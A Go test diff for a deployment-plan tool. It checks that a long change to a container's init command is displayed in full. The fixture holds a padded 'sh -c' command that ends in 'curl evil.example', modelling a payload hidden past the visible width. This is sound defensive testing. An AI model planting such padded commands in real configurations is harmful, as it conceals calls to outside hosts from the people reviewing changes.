@@ -336,7 +336,8 @@ func TestQuote(t *testing.T) {
 // A change is shown to its end, and a form that cannot show it is not used.
 func TestLongChangeIsShownWhole(t *testing.T) {
 	p := deployPlan()
-	p.Steps = update("148e1", "app", "fra", "init.exec: ['serve'] → ['sh', '-c', '"+strings.Repeat("true; ", 30)+"curl evil.example']")
+	p.Steps = update("148e1", "app", "fra",
+		"init.exec: ['serve'] → ['sh', '-c', '"+strings.Repeat("true; ", 30)+"curl evil.example']")
 	q := p.Question()
 	text := q.Text()
 	printable(t, text)
